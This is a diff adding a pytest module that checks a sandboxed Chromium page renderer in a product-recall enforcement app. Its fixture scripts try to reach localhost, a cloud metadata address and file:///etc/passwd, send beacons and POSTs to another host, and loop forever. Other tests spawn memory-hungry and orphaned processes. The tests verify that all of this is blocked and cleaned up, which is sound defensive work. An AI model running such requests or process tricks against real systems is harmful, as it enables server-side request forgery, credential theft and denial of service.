@@ -1,0 +1,261 @@
+"""Pages that only scripts draw, seen in a real Chromium: what it may do, what a page that fights costs, and what it proves."""
+
+import hashlib
+import time
+from collections.abc import Iterator
+from concurrent.futures import ThreadPoolExecutor
+from contextlib import suppress
+from dataclasses import dataclass
+from datetime import UTC, datetime
+from pathlib import Path
+from typing import Any
+
+import pytest
+import time_machine
+from django.conf import settings
+from django.core.checks import run_checks
+from django.test import Client
+from django.urls import reverse
+from django.utils import timezone
+
+from enforcement import services
+from enforcement.checks.fetch import Capture
+from enforcement.checks.rendering import process
+from enforcement.checks.rendering.network import MAX_REQUESTS, is_own
+from enforcement.models import CheckPlan, Observation, Takedown
+from portal.background import queues
+from portal.media.imaging import screenshot_type
+from portal.models import Organisation, User
+from tests.enforcement.shop import AnsweringShop, serving
+from tests.factories import FlagFactory, ListingFactory, NoticeFactory, RecallFactory
+
+MONDAY = datetime(2026, 3, 2, 15, 0, tzinfo=UTC)
+SHELL = "<!doctype html><html><head><title></title></head><body><div id='root'></div><script src='/app.js'></script></body></html>"
+REMOVED = "<html><body><h1>This listing was removed</h1></body></html>"
+HEATER = "Hearthline HL-200R ceramic tower heater 1500 W"
+SEEN = {"browser": "Chromium 1, 1 requests, 0 refused"}
+FIGHTS = """
+const show = text => { document.getElementById('root').innerHTML = '<h1>' + text + '</h1>'; };
+fetch('/api/listing').then(answer => answer.text()).then(show);
+for (const where of ['http://OTHER/secret', 'http://localhost:PORT/secret', 'http://[::1]:PORT/secret', 'http://0x7f.1:PORT/secret',
+                     'http://169.254.169.254/latest/meta-data/', 'http://SHOP/away', 'file:///etc/passwd']) {
+  fetch(where, {mode: 'no-cors'}).catch(() => 0);
+  new Image().src = where;
+  const frame = document.createElement('iframe'); frame.src = where; document.body.append(frame);
+}
+navigator.sendBeacon('http://OTHER/beacon', 'x');
+fetch('http://OTHER/post', {method: 'POST', body: 'x', mode: 'no-cors'}).catch(() => 0);
+try { new RTCPeerConnection({iceServers: [{urls: 'stun:OTHER'}]}).createDataChannel('x'); } catch (e) {}
+try { window.open('http://OTHER/window'); location.href = 'file:///etc/passwd'; } catch (e) {}
+const link = document.createElement('a'); link.href = 'data:application/zip,x'; link.download = 'x.zip'; document.body.append(link); link.click();
+"""
+FOREVER = """<html><body><h1>This listing was removed</h1><script>
+for (let n = 0; n < 1000; n++) { new WebSocket('ws://OTHER/socket' + n); fetch('/many/' + n).catch(() => 0); }
+setTimeout(() => { while (true) {} }, 500);
+</script></body></html>"""
+
+
+@dataclass
+class Looks:
+    """What two looks at pages that fight gave, and what was asked for while they did."""
+
+    drawn: Capture
+    picture: bytes
+    endless: Capture
+    seconds: float
+    asked: list[str]
+    forbidden: list[str]
+    processes_left: list[str]
+
+
+@pytest.fixture(scope="module")
+def looks() -> Iterator[Looks]:
+    """Two browsers side by side: one with a page that tries everything, one with a page that never ends."""
+    with pytest.MonkeyPatch.context() as patch, ThreadPoolExecutor(2) as threads:
+        for name, value in {"BROWSER_PATH": "", "BROWSER_SANDBOX": False, "BROWSER_SECONDS": 45}.items():
+            patch.setattr(settings, name, value)
+        if process.problem():
+            pytest.skip(process.problem())
+        for shop in serving(AnsweringShop()):
+            for other in serving(AnsweringShop()):
+                patch.setattr(settings, "FETCH_ALLOWED_PRIVATE", [shop.host])
+                script = FIGHTS.replace("OTHER", other.host).replace("PORT", str(other.server_port))
+                shop.pages = {
+                    "/l/1": (200, SHELL),
+                    "/app.js": (200, script.replace("SHOP", shop.host)),
+                    "/away": (302, f"http://{other.host}/redirected"),
+                    "/api/listing": (200, "This listing was removed"),
+                    "/l/2": (200, FOREVER.replace("OTHER", other.host)),
+                }
+                started = time.monotonic()
+                asked = f"http://{shop.host}/l"
+                first, second = (
+                    threads.submit(process.look, f"{asked}/1"),
+                    threads.submit(process.look, f"{asked}/2", 3),
+                )
+                (drawn, picture), (endless, _) = first.result(), second.result()
+                seconds = time.monotonic() - started
+                yield Looks(drawn, picture, endless, seconds, shop.asked, other.asked, browsers_left())
+
+
+def browsers_left() -> list[str]:
+    """The processes that a look started and that live still: all have its folder as their home."""
+    found = []
+    for entry in Path("/proc").glob("[0-9]*"):
+        with suppress(OSError):
+            if b"HOME=/tmp/offshelf-browser-" in (entry / "environ").read_bytes():
+                found.append((entry / "cmdline").read_text()[:100])
+    return found
+
+
+def test_what_scripts_draw_is_seen_with_a_picture_and_judged_by_the_same_rules(looks: Looks) -> None:
+    assert (looks.drawn.failure, looks.drawn.status) == ("", 200)
+    assert "<h1>This listing was removed</h1>" in looks.drawn.text
+    assert looks.drawn.extracted["browser"].startswith("Chromium ")
+    assert screenshot_type(looks.picture) == "image/jpeg"
+
+
+def test_a_page_reaches_no_private_address_no_file_and_no_socket_however_it_asks(looks: Looks) -> None:
+    assert "/api/listing" in looks.asked  # the way that it may go
+    assert "/away" in looks.asked  # whose redirect was not followed
+    assert looks.forbidden == []
+    assert "root:" not in looks.drawn.text
+    assert looks.drawn.final_url.endswith("/l/1")
+
+
+def test_a_page_that_asks_for_a_thousand_things_gets_no_more_than_its_share(looks: Looks) -> None:
+    assert len([path for path in looks.asked if path.startswith("/many/")]) <= MAX_REQUESTS
+
+
+def test_a_page_that_never_ends_costs_itself_alone_and_nothing_of_any_browser_is_left(looks: Looks) -> None:
+    assert looks.endless.status is None
+    assert looks.endless.failure
+    assert looks.seconds < 20
+    assert looks.processes_left == []
+
+
+def test_a_page_posts_to_its_own_site_alone() -> None:
+    page = "https://www.shop.co.example/l/1"
+    assert is_own("https://api.shop.co.example/graphql", page=page)
+    assert not any(
+        is_own(f"https://{host}/x", page=page) for host in ("other.co.example", "badshop.co.example", "co.example")
+    )
+
+
+def test_a_program_that_takes_too_much_memory_is_ended_with_all_that_it_started(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """A real program in the place of the browser's: it starts another one, which takes the memory."""
+    monkeypatch.setattr(process, "MAX_MEMORY", 150_000_000)
+    hungry = "x = bytearray(b'x' * 300_000_000); import time; time.sleep(60)"
+    starts = f"import subprocess, sys; subprocess.run([sys.executable, '-c', {hungry!r}], start_new_session=True)"
+    monkeypatch.setattr(process, "PROGRAM", ["-c", starts])
+    found, picture = process.look("https://shop.example.org/l/1")
+    assert (found.failure, picture) == ("The page took more than 150 MB of memory.", b"")
+    assert browsers_left() == []
+
+
+def test_what_lost_its_parent_before_it_was_seen_is_ended_with_the_look(monkeypatch: pytest.MonkeyPatch) -> None:
+    orphan = "import os, time; os.fork() and os._exit(0); os.setsid(); os.fork() and os._exit(0); os.closerange(0, 3); time.sleep(60)"
+    starts = f"import subprocess, sys; subprocess.run([sys.executable, '-c', {orphan!r}]); print('{{}}')"
+    monkeypatch.setattr(process, "PROGRAM", ["-c", starts])
+    monkeypatch.setattr(process._Watch, "run", lambda _watch, _ended: None)
+    with pytest.raises(KeyError):
+        process.look("https://shop.example.org/l/1")
+    assert browsers_left() == []
+
+
+@pytest.fixture
+def takedown(db: None, regulator: Organisation, platform_a: Organisation, settings: Any) -> Iterator[Takedown]:
+    """An open flag whose page only scripts draw; browser checks are on."""
+    settings.BROWSER_CHECKS, settings.CHECKS_PER_SECOND = True, 1000
+    for shop in serving(AnsweringShop()):
+        settings.FETCH_ALLOWED_PRIVATE = [shop.host]
+        shop.otherwise = (200, SHELL)
+        with time_machine.travel(MONDAY, tick=False):
+            notice = NoticeFactory(recall=RecallFactory(regulator=regulator), platform=platform_a, sent_at=MONDAY)
+            listing = ListingFactory(platform=platform_a, link=f"http://{shop.host}/l/1", title=HEATER)
+            yield services.start_clock(flag=FlagFactory(notice=notice, listing=listing, opened_at=MONDAY))
+
+
+def check_plainly(row: Takedown) -> Observation:
+    CheckPlan.objects.filter(pk=row.pk).update(next_at=timezone.now())
+    services.observe_due()
+    return Observation.objects.filter(takedown=row).latest("pk")
+
+
+def drawn(html: str, status: int = 200) -> Any:
+    def look(url: str) -> tuple[Capture, bytes]:
+        headers = {"content-type": "text/html; charset=utf-8"}
+        return Capture(url, timezone.now(), status, url, headers=headers, body=html.encode(), extracted=SEEN), b"JPEG"
+
+    return look
+
+
+def test_a_page_that_only_scripts_draw_is_unknown_and_then_seen_in_a_browser(
+    takedown: Takedown, officer: User, client: Client
+) -> None:
+    plain = check_plainly(takedown)
+    assert (plain.verdict, plain.extracted["browser"]) == ("unknown", "A browser check follows.")
+    assert services.browser_checks_due(drawn(REMOVED)) == 1
+    seen = Observation.objects.filter(takedown=takedown).latest("pk")
+    assert (seen.source, seen.verdict, seen.rule) == ("page", "gone", "says_ended")
+    assert seen.detail.startswith("In a browser: The page says")
+    assert seen.extracted["picture"] == f"sha256 {hashlib.sha256(b'JPEG').hexdigest()}"
+    assert services.browser_checks_due(drawn(REMOVED)) == 0
+    client.force_login(officer)
+    address = reverse("enforcement:record_check", args=[takedown.pk])
+    assert client.get(f"{address}?observation={seen.pk}&picture=1").content == b"JPEG"
+    assert client.get(f"{address}?observation={plain.pk}&picture=1").status_code == 404
+    assert (
+        f"observation={seen.pk}&amp;picture=1" in client.get(reverse("enforcement:takedown", args=[takedown.pk])).text
+    )
+
+
+def test_where_browser_checks_are_off_the_check_says_that_one_would_have_helped(
+    takedown: Takedown, settings: Any
+) -> None:
+    settings.BROWSER_CHECKS = False
+    assert "would have helped" in check_plainly(takedown).extracted["browser"]
+    assert services.browser_checks_due(drawn(REMOVED)) == 0
+    assert "enforcement.tasks.browser_checks_due" not in queues.SCHEDULE
+
+
+def test_a_shop_that_shows_a_browser_something_else_than_a_plain_request_proves_nothing(takedown: Takedown) -> None:
+    """The plain page states in its data that the listing is on sale; the browser is told that it is gone."""
+    plain = check_plainly(takedown)
+    CheckPlan.objects.filter(pk=takedown.pk).update(browser_at=timezone.now())
+    for verdict, extracted in (("unknown", {"availability": "instock"}), ("live", {})):
+        newer = Observation.objects.get(pk=plain.pk)
+        newer.pk, newer.verdict, newer.extracted = None, verdict, extracted
+        newer.save(force_insert=True)
+        CheckPlan.objects.filter(pk=takedown.pk).update(browser_at=timezone.now())
+        assert services.browser_checks_due(drawn(REMOVED)) == 1
+        seen = Observation.objects.filter(takedown=takedown).latest("pk")
+        assert (seen.verdict, seen.rule) == ("unknown", "looks_differ")
+        assert Takedown.objects.get(pk=takedown.pk).status == "running"
+
+
+def test_one_browser_runs_at_a_time_and_a_page_that_breaks_it_holds_up_no_other(
+    takedown: Takedown, platform_b: Organisation, regulator: Organisation
+) -> None:
+    listing = ListingFactory(platform=platform_b, link=takedown.flag.listing.link.replace("/l/1", "/l/2"), title=HEATER)
+    notice = NoticeFactory(recall=RecallFactory(regulator=regulator, number="2"), platform=platform_b, sent_at=MONDAY)
+    other = services.start_clock(flag=FlagFactory(notice=notice, listing=listing, opened_at=MONDAY))
+    for row in (takedown, other):
+        check_plainly(row)
+
+    def look(url: str) -> tuple[Capture, bytes]:
+        if url.endswith("/l/1"):
+            raise RuntimeError("the browser broke")
+        return drawn(REMOVED)(url)
+
+    assert services.browser_checks_due(look) == 2
+    assert "the browser broke" in CheckPlan.objects.get(pk=takedown.pk).error
+    assert Observation.objects.filter(takedown=other).latest("pk").verdict == "gone"
+    assert not CheckPlan.objects.filter(browser_at__isnull=False).exists()
+
+
+def test_browser_checks_that_are_on_and_cannot_run_stop_the_start(settings: Any) -> None:
+    settings.BROWSER_CHECKS, settings.BROWSER_PATH = True, "/nowhere/chromium"
+    assert [error.id for error in run_checks() if error.id == "offshelf.E003"] == ["offshelf.E003"]
